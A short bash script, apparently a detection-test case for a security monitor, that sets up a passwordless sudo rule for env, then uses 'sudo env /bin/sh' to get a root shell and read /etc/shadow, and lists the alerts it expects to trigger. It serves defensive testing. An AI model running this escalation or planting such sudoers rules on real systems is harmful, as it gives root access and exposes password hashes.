#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1548.003 Abuse Elevation Control Mechanism: Sudo and Sudo Caching
# behaviour: a user allowed to run env with sudo gets a root shell through it (env /bin/sh), and reads the hashes
# as: user
# setup: echo "$SNTL_USER ALL=(root) NOPASSWD: /usr/bin/env" > "/etc/sudoers.d/sntl-ev-$SNTL_ID" && chmod 440 "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# teardown: rm -f "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# expect: unusual_switch_user, unusual_child
set -u
echo 'id; head -2 /etc/shadow > /dev/null' | sudo -n /usr/bin/env /bin/sh
